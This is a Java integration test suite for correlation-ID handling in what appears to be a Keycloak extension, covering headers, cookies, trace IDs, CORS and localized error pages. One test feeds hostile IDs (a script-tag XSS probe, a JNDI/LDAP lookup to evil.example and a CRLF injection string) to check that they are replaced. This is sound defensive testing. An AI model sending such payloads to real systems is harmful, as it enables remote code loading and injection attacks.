package dev.gatehouse.correlation;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.gatehouse.browser.Browser;
import dev.gatehouse.browser.Form;
import dev.gatehouse.browser.Page;
import dev.gatehouse.browser.Person;
import dev.gatehouse.platform.PlatformRealm;
import dev.gatehouse.platform.RelyingParty;
import dev.gatehouse.server.Http;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CorrelationIT {

    @RegisterExtension
    static final PlatformRealm REALM = new PlatformRealm(CorrelationIT::inFourLanguages);

    private static final String HEADER = "X-Correlation-ID";
    private static final String COOKIE = "GATEHOUSE_CORRELATION_ID";
    private static final String NEW = "[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}";
    private static final URI CALLBACK = URI.create("http://127.0.0.1:9/callback");
    private static final HttpClient HTTP = Http.client();

    private Browser browser;

    private static void inFourLanguages(ObjectNode realm) {
        realm.put("internationalizationEnabled", true).put("defaultLocale", "en");
        realm.putArray("supportedLocales").add("en").add("sv").add("de").add("ar");
        realm.putArray("enabledEventTypes").add("CLIENT_LOGIN_ERROR").add("LOGIN_ERROR");
    }

    @BeforeEach
    void install() {
        browser = new Browser(REALM.server().url());
        REALM.admin().delete(REALM.path("/events"));
    }

    /** Method and path below the server → the status, so that every kind of answer is there. */
    private Map<String, Integer> requests() throws Exception {
        String realm = "/realms/" + REALM.name();
        Map<String, Integer> requests = new LinkedHashMap<>();
        requests.put("GET " + realm, 200);
        requests.put("GET " + realm + "/.well-known/openid-configuration", 200);
        requests.put("GET " + realm + "/protocol/openid-connect/certs", 200);
        requests.put("GET " + realm + "/protocol/openid-connect/auth", 400);
        requests.put("GET " + realm + "/protocol/openid-connect/auth?client_id=a&client_id=%00", 400);
        requests.put("GET " + realm + "/protocol/openid-connect/userinfo", 401);
        requests.put("GET " + realm + "/login-actions/authenticate", 400);
        requests.put("GET " + realm + "/broker/nobody/endpoint", 404);
        requests.put("POST " + realm + "/protocol/openid-connect/token", 400);
        requests.put("OPTIONS " + realm + "/protocol/openid-connect/token", 200);
        requests.put("DELETE " + realm + "/protocol/openid-connect/token", 405);
        requests.put("GET " + realm + "/account/", 200);
        requests.put("GET " + realm + "/nothing", 404);
        requests.put("GET /realms/nobody", 404);
        requests.put("GET /nothing", 404);
        requests.put("GET /", 302);
        requests.put("GET /admin/master/console/", 200);
        requests.put("GET /admin/realms/" + REALM.name(), 401);
        requests.put("GET /admin/realms/" + REALM.name() + "/gatehouse/explain", 401);
        requests.put("GET " + stylesheet(), 200);
        requests.put("GET " + stylesheet() + ".nothing", 404);
        return requests;
    }

    @Test
    void everyAnswerSaysTheIdThatTheRequestBrought() throws Exception {
        Map<String, Integer> statuses = new LinkedHashMap<>();
        for (String request : requests().keySet()) {
            String id = unique();
            HttpResponse<String> answer = send(request, HEADER, id);
            statuses.put(request, answer.statusCode());
            assertThat(answer.headers().allValues(HEADER)).as(request).containsExactly(id);
        }
        assertThat(statuses).isEqualTo(requests());
    }

    @Test
    void everyAnswerToARequestWithoutAnIdHasOneOfItsOwn() throws Exception {
        List<String> ids = new ArrayList<>();
        for (String request : requests().keySet()) {
            ids.addAll(send(request).headers().allValues(HEADER));
        }
        assertThat(ids).hasSize(requests().size()).doesNotHaveDuplicates().allMatch(id -> id.matches(NEW));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "short",
                "with space",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}",
                "a%0d%0ab%0d%0ac"
            })
    void hostileIdsAreReplaced(String hostile) throws Exception {
        assertThat(idOf(send("GET /realms/nobody", HEADER, hostile))).matches(NEW);
    }

    @Test
    void soIsAVeryLongOneAndOneThatComesTwice() throws Exception {
        // the HTTP server of Keycloak 26.6 answers longer headers itself
        assertThat(idOf(send("GET /realms/nobody", HEADER, "a".repeat(5_000)))).matches(NEW);
        assertThat(idOf(send("GET /realms/nobody", HEADER, "id-of-one", HEADER, "id-of-two")))
                .matches(NEW);
    }

    @Test
    void theIdOfATraceIsTaken() throws Exception {
        String traceparent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
        assertThat(idOf(send("GET /realms/nobody", "traceparent", traceparent)))
                .isEqualTo("0af7651916cd43dd8448eb211c80319c");
        assertThat(idOf(send("GET /realms/nobody", "traceparent", traceparent, HEADER, "id-of-its-own")))
                .isEqualTo("id-of-its-own");
        assertThat(idOf(send("GET /realms/nobody", "traceparent", "ff" + traceparent.substring(2))))
                .matches(NEW);
    }

    @Test
    void pagesOfAnotherOriginMayReadIt() throws Exception {
        String token = "POST /realms/" + REALM.name() + "/protocol/openid-connect/token";
        HttpResponse<String> answer = post(
                token,
                "grant_type=authorization_code&code=none&client_id=enclii-console",
                "Origin",
                "http://localhost:4203");
        assertThat(answer.headers().allValues("Access-Control-Allow-Origin")).containsExactly("http://localhost:4203");
        assertThat(answer.headers().allValues("Access-Control-Expose-Headers"))
                .singleElement()
                .satisfies(exposed -> assertThat(exposed.split(", *"))
                        .containsExactlyInAnyOrder("Access-Control-Allow-Methods", HEADER));
    }

    @Test
    void noRequestSeesTheIdOfAnother() throws Exception {
        // connections that are kept, over which clients come that Keycloak does not know and logs by their names; every
        // other
        // one brings an id
        HttpClient http = Http.client();
        Map<String, String> ids = new LinkedHashMap<>();
        for (int round = 0; round < 5; round++) {
            Map<String, CompletableFuture<HttpResponse<String>>> answers = new LinkedHashMap<>();
            for (int i = 0; i < 40; i++) {
                String client = unique();
                HttpRequest.Builder request = request("POST /realms/" + REALM.name() + "/protocol/openid-connect/token")
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(BodyPublishers.ofString("grant_type=client_credentials&client_id=" + client));
                if (i % 2 == 0) {
                    request.header(HEADER, client);
                }
                answers.put(client, http.sendAsync(request.build(), BodyHandlers.ofString()));
            }
            for (var answer : answers.entrySet()) {
                ids.put(answer.getKey(), idOf(answer.getValue().get()));
            }
        }
        assertThat(ids.values()).doesNotHaveDuplicates();
        assertThat(ids.entrySet().stream().filter(id -> id.getKey().equals(id.getValue())))
                .hasSize(100);
        ids.forEach((client, id) -> assertThat(logged("clientId=\"" + client + "\""))
                .singleElement()
                .satisfies(line -> assertThat(correlationIn(line)).isEqualTo(id)));
    }

    @Test
    void aLoginKeepsItsFirstIdWhateverItsLaterRequestsBring() throws Exception {
        String first = unique();
        Page page = toPassword(browser, first, "dana@acme.example");
        assertThat(browser.received(HEADER)).containsExactly(first);

        browser.sends(HEADER, unique());
        page = browser.submit(withPassword(page, "wrong"));
        assertThat(page.message()).isNotBlank();
        assertThat(browser.received(HEADER)).containsExactly(first);
        assertThat(correlationIn(lastLogged("type=\"LOGIN_ERROR\""))).isEqualTo(first);

        browser.open(action(page, "nothing"));
        assertThat(browser.received(HEADER)).containsExactly(first);

        page = Person.of("dana@acme.example").goOn(browser, browser.submit(withPassword(page, "password")));
        assertThat(page.isOutside()).as(page.toString()).isTrue();
        assertThat(browser.received(HEADER)).containsExactly(first);
    }

    @Test
    void aLoginThatStartsAgainIsTheSameAndTheNextIsAnother() throws Exception {
        Person vera = Person.of("vera@acme.example");
        String first = unique();
        Page page = toPassword(browser, first, vera.email());
        browser.cookies().remove(COOKIE);
        browser.sends(HEADER, unique());
        page = browser.open(action(page, "restart"));
        assertThat(browser.received(HEADER)).containsExactly(first);
        assertThat(vera.goOn(browser, page).isOutside()).isTrue();
        assertThat(browser.received(HEADER)).containsExactly(first);

        String second = unique();
        assertThat(vera.goOn(browser, begin(browser, second)).isOutside()).isTrue();
        assertThat(browser.received(HEADER)).containsExactly(second);
    }

    @Test
    void eachOfTwoTabsKeepsItsOwn() throws Exception {
        String one = unique();
        String two = unique();
        Page first = toPassword(browser, one, "umar@acme.example");
        Page second = toPassword(browser, two, "umar@acme.example");
        browser.sends(HEADER, unique());

        first = browser.submit(withPassword(first, "wrong"));
        assertThat(browser.received(HEADER)).containsExactly(one);
        assertThat(correlationIn(lastLogged("type=\"LOGIN_ERROR\""))).isEqualTo(one);

        browser.submit(withPassword(second, "wrong"));
        assertThat(browser.received(HEADER)).containsExactly(two);
        assertThat(correlationIn(lastLogged("type=\"LOGIN_ERROR\""))).isEqualTo(two);

        browser.submit(withPassword(first, "password"));
        assertThat(browser.received(HEADER)).containsExactly(one);
    }

    @Test
    void theCookieHoldsNothingButTheId() throws Exception {
        String id = unique();
        HttpResponse<String> answer = send("GET " + authorization(CALLBACK), HEADER, id);
        assertThat(answer.headers().allValues("Set-Cookie"))
                .filteredOn(cookie -> cookie.startsWith(COOKIE + "="))
                .singleElement()
                .satisfies(cookie -> assertThat(cookie.split("; *"))
                        .contains(
                                COOKIE + "=" + id,
                                "Path=/realms/" + REALM.name() + "/",
                                "Max-Age=600",
                                "HttpOnly",
                                "Secure",
                                "SameSite=Lax"));
        assertThat(send("GET " + authorization(URI.create("https://evil.example")))
                        .headers()
                        .allValues("Set-Cookie"))
                .noneMatch(cookie -> cookie.startsWith(COOKIE));
    }

    @Test
    void aCookieDecidesOnlyWhereALoginGoesOnAndOnlyIfItHoldsAnId() throws Exception {
        String goesOn = "GET /realms/" + REALM.name() + "/login-actions/authenticate";
        assertThat(idOf(send(goesOn, "Cookie", COOKIE + "=id-of-the-cookie", HEADER, "id-of-header")))
                .isEqualTo("id-of-the-cookie");
        assertThat(idOf(send(goesOn, "Cookie", COOKIE + "=short", HEADER, "id-of-header")))
                .isEqualTo("id-of-header");
        assertThat(idOf(send(
                        "GET " + authorization(CALLBACK),
                        "Cookie",
                        COOKIE + "=id-of-the-cookie",
                        HEADER,
                        "id-of-header")))
                .isEqualTo("id-of-header");
        assertThat(idOf(send("GET /realms/" + REALM.name(), "Cookie", COOKIE + "=id-of-the-cookie")))
                .matches(NEW);
    }

    @ParameterizedTest
    @CsvSource({
        "en, ltr, 'If you ask for help, give this id:'",
        "sv, ltr, 'Om du ber om hjälp, uppge detta id:'",
        "de, ltr, 'Wenn Sie um Hilfe bitten, nennen Sie diese Kennung:'",
        "ar, rtl, 'إذا طلبت المساعدة، فاذكر هذا المعرّف:'"
    })
    void anErrorPageSaysTheIdInTheLanguageOfThePerson(String language, String direction, String words)
            throws Exception {
        String id = unique();
        browser.sends(HEADER, id);
        browser.sends("Accept-Language", language);
        for (String path :
                List.of(authorization(URI.create("https://evil.example")), "/realms/" + REALM.name() + "/nothing")) {
            Page page = browser.open(URI.create(REALM.server().url() + path));
            assertThat(page.id()).as(path).isEqualTo("error");
            assertThat(page.document().select("html").attr("dir")).isEqualTo(direction);
            assertThat(page.document().select(".gatehouse-correlation").text()).isEqualTo(words + " " + id);
            assertThat(page.document().select("code.gatehouse-correlation-id").text())
                    .isEqualTo(id);
            assertThat(browser.received(HEADER)).containsExactly(id);
        }
        assertThat(correlationIn(lastLogged("error=\"invalid_redirect_uri\""))).isEqualTo(id);
    }

    @Test
    void aPageThatAsksForSomethingDoesNotShowIt() throws Exception {
        Page page = toPassword(browser, unique(), "umar@acme.example");
        assertThat(page.document().select(".gatehouse-correlation")).isEmpty();
        page = browser.submit(withPassword(page, "wrong"));
        assertThat(page.document().select(".gatehouse-correlation")).isEmpty();
    }

    @Test
    void aRefusedTokenIsFoundByItInAnswerEventAndLog() throws Exception {
        String id = unique();
        HttpResponse<String> answer = post(
                "POST /realms/" + REALM.name() + "/protocol/openid-connect/token",
                "grant_type=client_credentials&client_id=enclii-api&client_secret=enclii-api-secret",
                HEADER,
                id);
        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.body()).contains("unmapped_groups");
        assertThat(idOf(answer)).isEqualTo(id);
        assertThat(REALM.admin().get(REALM.path("/events?type=CLIENT_LOGIN_ERROR")))
                .singleElement()
                .satisfies(event -> {
                    assertThat(event.at("/details/reason").textValue()).isEqualTo("unmapped_groups");
                    assertThat(event.at("/details/correlation_id").textValue()).isEqualTo(id);
                });
        String line = lastLogged("correlation_id=\"" + id + "\"");
        assertThat(line).contains("unmapped_groups");
        assertThat(correlationIn(line)).isEqualTo(id);
    }

    @Test
    void anErrorOfAnAdminResourceSaysIt() throws Exception {
        String id = unique();
        HttpResponse<String> answer = send(
                "GET /admin/realms/" + REALM.name() + "/gatehouse/explain?client=nobody",
                "Authorization",
                "Bearer " + REALM.admin().token(),
                HEADER,
                id);
        assertThat(answer.statusCode()).isEqualTo(404);
        JsonNode error = new JsonMapper().readTree(answer.body());
        assertThat(error.get("error").textValue()).isEqualTo("unknown_client");
        assertThat(error.get("correlation_id").textValue()).isEqualTo(id);
        assertThat(idOf(answer)).isEqualTo(id);
    }

    private static String unique() {
        return "test." + UUID.randomUUID();
    }

    private static String authorization(URI redirectUri) throws Exception {
        URI url = RelyingParty.publicClient(REALM.issuer(), "enclii-cli")
                .login(redirectUri, "openid")
                .url();
        return url.getRawPath() + "?" + url.getRawQuery();
    }

    private static Page begin(Browser browser, String id) throws Exception {
        browser.sends(HEADER, id);
        return browser.open(URI.create(REALM.server().url() + authorization(CALLBACK)));
    }

    /** The same, up to the page that asks for the password. */
    private static Page toPassword(Browser browser, String id, String email) throws Exception {
        return browser.submit(form(begin(browser, id), "username").fill("username", email));
    }

    private static String stylesheet() throws Exception {
        Browser browser = new Browser(REALM.server().url());
        return begin(browser, unique())
                .link("link[rel=stylesheet][href*='/login/']")
                .orElseThrow()
                .getPath();
    }

    private static Form withPassword(Page page, String password) {
        return form(page, "password").fill("password", password);
    }

    /** The address of another of the login's actions. */
    private static URI action(Page page, String action) {
        return URI.create(form(page, "password").action().toString().replace("/authenticate", "/" + action));
    }

    private static Form form(Page page, String field) {
        return page.formWith(field).orElseThrow(() -> new AssertionError(page.toString()));
    }

    private static HttpRequest.Builder request(String methodAndPath, String... headers) {
        int space = methodAndPath.indexOf(' ');
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create(REALM.server().url() + methodAndPath.substring(space + 1)))
                .timeout(Duration.ofMinutes(1))
                .method(methodAndPath.substring(0, space), BodyPublishers.noBody());
        return headers.length == 0 ? request : request.headers(headers);
    }

    private static HttpResponse<String> send(String methodAndPath, String... headers) throws Exception {
        return HTTP.send(request(methodAndPath, headers).build(), BodyHandlers.ofString());
    }

    private static HttpResponse<String> post(String methodAndPath, String form, String... headers) throws Exception {
        return HTTP.send(
                request(methodAndPath, headers)
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(BodyPublishers.ofString(form))
                        .build(),
                BodyHandlers.ofString());
    }

    private static String idOf(HttpResponse<String> answer) {
        assertThat(answer.headers().allValues(HEADER)).hasSize(1);
        return answer.headers().firstValue(HEADER).orElseThrow();
    }

    private static List<String> logged(String words) {
        return REALM.server().log().lines().filter(line -> line.contains(words)).toList();
    }

    private static String lastLogged(String words) {
        List<String> lines = logged(words);
        assertThat(lines).as(words).isNotEmpty();
        return lines.get(lines.size() - 1);
    }

    private static String correlationIn(String line) {
        return line.replaceFirst("^.*?\\bcorrelationId=([^,} ]*).*$", "$1");
    }
}
